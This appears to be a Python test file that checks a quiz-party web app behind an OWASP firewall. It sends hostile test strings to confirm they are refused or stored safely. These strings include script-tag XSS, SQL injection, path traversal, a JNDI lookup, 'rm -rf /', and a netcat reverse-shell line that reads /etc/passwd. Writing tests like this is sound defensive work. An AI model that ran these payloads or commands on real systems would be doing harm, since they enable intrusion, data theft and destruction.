"""Behind the firewall that hosts most often have: OWASP's core rules take quizzes and signals for attacks."""

import base64
import json
import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
from playwright.sync_api import Browser

from party.ops import doctor
from tests.conftest import GENEROUS
from tests.support import tabs
from tests.support.apache import Apache
from tests.support.firewall import directives
from tests.support.tabs import FAILED_REQUEST, Tab, exchange, serve_harness, wait_connected

NASTY_NAME = "Robert'); DROP TABLE students;--"
NASTY: dict[str, Any] = {
    "title": "<script>alert(document.cookie)</script>",
    "questions": [
        {"question": "What does <b onclick=alert(1)>this</b> do?", "answers": ["<i>", "bold"], "correct": 1},
        {
            "question": "' OR 1=1 UNION SELECT password FROM users; --",
            "answers": [
                "; cat /etc/passwd | nc -e /bin/sh 10.0.0.1 80",
                "$(rm -rf /) `id`",
                "../../etc/passwd",
            ],
            "correct": 0,
        },
        {"question": "🎉 größer als ½? {{7*7}} ${jndi:ldap://x/y}", "answers": ["ja 😀", "né"], "correct": 0},
    ],
}
SDP = (
    "v=0\r\no=- 4611731400430051336 2 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\na=group:BUNDLE 0\r\n"
    "m=application 9 UDP/DTLS/SCTP webrtc-datachannel\r\nc=IN IP4 0.0.0.0\r\na=ice-ufrag:Nx1S\r\n"
    "a=ice-pwd:+Yq/abcdefghijklmnopqrst\r\na=setup:actpass\r\na=mid:0\r\na=sctp-port:5000\r\n"
)

pytestmark = pytest.mark.needs("quiz", "ice")
# What the browser writes of a page that it may not show to another site.
BLOCKED_BY_CORS = "Access to fetch at "
FORM = "application/x-www-form-urlencoded"


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[str]:
    """Where a test page lies that is not of the service's site."""
    with serve_harness() as found:
        yield found


@pytest.fixture(scope="module", params=[1, 2], ids=["paranoia-1", "paranoia-2"])
def site(request: pytest.FixtureRequest, elsewhere: str) -> Iterator[str]:
    """The address of a site with the rules in front, the app in its folder party and the test page."""
    with tempfile.TemporaryDirectory(prefix="party-firewall-", dir="/tmp") as folder:
        rules = [
            *directives(request.param, Path(folder)),
            "AddType text/javascript .js",
            "AddType text/html .html",
        ]
        with Apache("outside", processes=2, server_directives=rules) as apache:
            settings: dict[str, Any] = {**GENEROUS, "STUN_URLS": [], "ALLOWED_ORIGINS": [elsewhere]}
            apache.put_app(**settings)
            for path in tabs.FOLDER.glob("harness.*"):
                shutil.copy(path, apache.public_html)
            apache.account.own(apache.public_html)
            shutil.chown(apache.public_html, group="www-data")
            # By a name, as everybody does: to ask for an address is suspicious by itself.
            yield apache.site.replace("127.0.0.1", "localhost")


def call(
    site: str, method: str, path: str, body: Any = None, token: str | None = None, encode: str | None = FORM
) -> requests.Response:
    """A call with what browsers send along; its body encoded in this Content-Type, or as it is."""
    headers = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/140.0", "Accept": "*/*"}
    data = None if body is None else json.dumps(body, ensure_ascii=False).encode()
    if token is not None:
        headers["Authorization"] = f"Bearer {token}"
    if data is not None and encode is None:
        headers["Content-Type"] = "application/json"
    elif data is not None and encode is not None:
        data = base64.urlsafe_b64encode(data).rstrip(b"=")
        headers |= {"Content-Type": encode, "X-Party-Body": "b64"}
    return requests.request(method, f"{site}/party{path}", data=data, headers=headers, timeout=60)


def test_the_rules_refuse_what_they_are_known_to_refuse(site: str) -> None:
    for field in (*NASTY["questions"][:2], {"title": NASTY["title"]}):
        refused = call(site, "POST", "/rooms", {"hostName": "Ada", "quizData": field}, encode=None)
        assert (refused.status_code, "html" in refused.text) == (403, True), field
    assert call(site, "DELETE", "/rooms/ABC234", token="x").status_code == 403
    # Why our encoded bodies say that they are forms.
    assert call(site, "POST", "/rooms", {"hostName": "Ada"}, encode="text/plain").status_code == 403
    assert call(site, "POST", "/rooms", {"hostName": "Ada"}, encode=None).status_code == 201


def test_a_whole_game_passes_the_rules_encoded(site: str) -> None:
    def data(*args: Any, **options: Any) -> Any:
        answer = call(site, *args, **options)
        assert answer.status_code in (200, 201), answer.text
        return answer.json()["data"]

    room = data("POST", "/rooms", {"hostName": NASTY_NAME, "hostId": "host", "quizData": NASTY})
    code, host = room["code"], room["you"]["token"]
    assert room["hostName"] == NASTY_NAME
    guest = data("POST", f"/rooms/{code}/join", {"name": "<i>Gus</i>", "participantId": "gus"})["you"][
        "token"
    ]
    assert data("POST", f"/rooms/{code}/quiz", {"quizData": NASTY}, host)["quizData"] == NASTY
    large = {"sdp": (SDP + "a=x-google-flag:conference;<>'\"\r\n") * 210}
    assert 50_000 < len(large["sdp"]) < 64 * 1024
    signals = [
        {"toId": "gus", "type": "offer", "payload": {"description": {"type": "offer", "sdp": SDP}}},
        {"toId": "gus", "type": "ice", "payload": large},
    ]
    data("POST", "/signal", {"roomCode": code, "messages": signals}, host)
    got = data("GET", f"/signal/{code}/gus", None, guest)["messages"]
    assert [message["payload"] for message in got if message["fromId"] == "host"][-2:] == [
        signal["payload"] for signal in signals
    ]
    data("POST", f"/rooms/{code}/start", None, host)
    given = {"questionIndex": 0, "answerIndex": 1, "timeMs": 2_000}
    assert data("POST", f"/rooms/{code}/answer", given, guest)["isCorrect"] is True
    data("POST", f"/rooms/{code}/next", {"fromQuestion": 0}, host)
    data("POST", f"/rooms/{code}/rejoin", None, guest)
    data("GET", f"/rooms/{code}/ice-servers", None, host)
    data("POST", f"/rooms/{code}/remove", {"participantId": "gus"}, host)
    assert data("POST", f"/rooms/{code}/end", None, host) == {"ended": True}
    for path in ("/", "/health", "/openapi.json", "/limits", "/static/party.js"):
        assert call(site, "GET", path).status_code == 200, path


@pytest.mark.parametrize("where", ["same site", "another site"])
def test_a_whole_game_passes_the_rules_in_the_browser(
    site: str, browser: Browser, elsewhere: str, where: str
) -> None:
    origin = site if where == "same site" else elsewhere
    ada, ben = (Tab(browser, origin, f"{site}/party") for _ in range(2))
    try:
        ben.join(ada.create(name=NASTY_NAME, quizData=NASTY), "ben", name="<b>Ben</b>")
        wait_connected(ada, ben)
        exchange(ada, ben)
        assert ben.get("party.participants.map(({ name }) => name)") == [NASTY_NAME, "<b>Ben</b>"]
        ada.run("await party.setQuiz(arg)", {**NASTY, "title": "; shutdown -h now"})
        ben.wait("party.room.quizData.title === '; shutdown -h now'")
        assert question_texts(ben) == [question["question"] for question in NASTY["questions"]]
        ada.run("await party.start()")
        ben.wait("party.room.status === 'playing'")
        given = {"answerIndex": 1, "timeMs": 2_000, "questionIndex": 0}
        assert ben.get("party.answer(arg)", given)["isCorrect"] is True
        ada.run("await party.next()")
        ben.wait("party.room.currentQuestion === 1")
        ben.reload()
        wait_connected(ada, ben, openings=1)
        ada.run("await party.end()")
        for tab in (ada, ben):
            tab.wait("harness.ended.length === 1")
            assert tab.get("[harness.ended, harness.errors]") == [["ended"], []]
            # But for the few requests that were refused until the page knew better.
            left = [text for text in tab.complaints if not text.startswith((FAILED_REQUEST, BLOCKED_BY_CORS))]
            assert left == []
            assert len(tab.complaints) <= 4
    finally:
        for tab in (ada, ben):
            tab.page.context.close()


@pytest.mark.needs("messages", "state")
def test_a_chat_about_code_passes_the_rules_in_the_browser(site: str, browser: Browser) -> None:
    ada, ben = (Tab(browser, site, f"{site}/party") for _ in range(2))
    texts = [NASTY["title"], *NASTY["questions"][1]["answers"], "SELECT * FROM users WHERE '1'='1' -- ;"]
    try:
        ben.join(ada.create(topology="none"), "ben", topology="none")
        ben.run(
            "harness.chat = []; party.addEventListener('chat', (e) => harness.chat.push(e.detail.message))"
        )
        ada.run("await Promise.all(arg.map((text) => party.say(text)))", texts)
        ben.wait("harness.chat.length === arg", len(texts))
        assert ben.get("harness.chat.map(({ content }) => content)") == texts
        stroke = {"tool": "pen", "color": "#000; DROP TABLE", "points": [[1, 2]]}
        drawing = {"operations": [stroke] * 400, "width": 480, "height": 360}
        id = ben.get("party.say(arg)", drawing)
        ben.run("await party.react(arg, 'star'); party.typing(true)", id)
        ada.run(
            "await party.setState({ code: arg }, { scope: 'me' })", "<script>`id`; cat /etc/passwd</script>"
        )
        ben.wait("party.state.members.ada?.code.value.startsWith('<script>')")
        ben.run("await party.deleteMessage(arg)", id)
        found = ada.get("party.messages({ limit: 100 })")["messages"]
        assert [message["content"] for message in found] == texts
        assert [tab.get("harness.errors") for tab in (ada, ben)] == [[], []]
    finally:
        for tab in (ada, ben):
            tab.page.context.close()


def question_texts(tab: Tab) -> list[str]:
    """The questions as this tab knows them."""
    found: list[str] = tab.get("party.room.quizData.questions.map(({ question }) => question)")
    return found


def test_the_doctor_names_what_the_rules_refuse(site: str, tmp_path: Path) -> None:
    (tmp_path / "config.py").touch(mode=0o600)
    found = {finding.check: finding for finding in doctor.examine(f"{site}/party", root=tmp_path)}
    firewall = found["firewall"]
    assert firewall.status == "warning"
    assert {"DELETE (403)", "markup (403)", "SQL (403)", "shell (403)"} <= set(
        firewall.found.removeprefix("a firewall refuses ").split(", ")
    )
    assert "plain text" not in firewall.found
    for check in ("health", "CORS", "Authorization", "poll latency", "exposure"):
        assert found[check].status == "ok", found[check]
